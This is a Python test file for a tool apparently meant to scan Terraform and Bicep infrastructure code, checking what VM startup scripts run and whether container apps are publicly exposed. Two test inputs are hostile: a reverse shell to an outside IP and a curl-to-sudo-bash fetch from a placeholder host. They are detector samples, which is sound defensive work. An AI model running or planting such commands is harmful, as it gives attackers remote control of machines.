"""What machines of AI run when they first start, and which ways into container apps are open."""

from __future__ import annotations

import pytest

from upright.app.catalog import units
from upright.discover.document import Document
from upright.discover.examine import examine
from upright.discover.link import link
from upright.model.item import Item


def _found(path: str, text: str) -> dict[str, dict[str, object]]:
    document = Document(Item("repo", path, len(text), content=text.encode()))
    found, *_ = link([examine(document, list(units("detectors").values()))])
    return {str(each.name): dict(each.attributes) for each in found}


@pytest.mark.parametrize(
    ("script", "flaws"),
    [
        ("curl -fsSL https://get.acme.example/llm.sh | sudo bash", {"fetched_script"}),
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", set()),
        ("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", {"startup_flaw"}),
        ("curl http://169.254.169.254/latest/meta-data/public-ipv4", set()),
        ("docker compose up -d", set()),
    ],
)
@pytest.mark.parametrize(
    ("head", "field"),
    [
        ('resource "aws_instance" "gpu" {\n  instance_type = "g5.xlarge"\n', "user_data"),
        ('resource "google_compute_instance" "gpu" {\n  machine_type = "a2-highgpu-1g"\n', "metadata_startup_script"),
    ],
)
def test_what_a_machine_runs_when_it_starts(head: str, field: str, script: str, flaws: set[str]) -> None:
    text = f"{head}  {field} = <<-EOT\n    #!/bin/bash\n    {script}\n  EOT\n}}\n"
    found = next(told for name, told in _found("main.tf", text).items() if name.endswith(".gpu"))
    assert found.keys() & {"fetched_script", "startup_flaw"} == flaws


@pytest.mark.parametrize(("external", "exposure"), [("true", "public"), ("false", "private")])
def test_ways_into_container_apps(external: str, exposure: str) -> None:
    text = "resource app 'Microsoft.App/containerApps@2024-03-01' = {\n  name: 'chat'\n  properties: {\n"
    text += f"    configuration: {{ ingress: {{ external: {external}, targetPort: 11434 }} }}\n"
    text += "    template: { containers: [\n"
    text += "      { name: 'ollama', image: 'ollama/ollama:0.9' }\n    ] }\n  }\n}\n"
    assert _found("main.bicep", text)["app"]["exposure"] == exposure
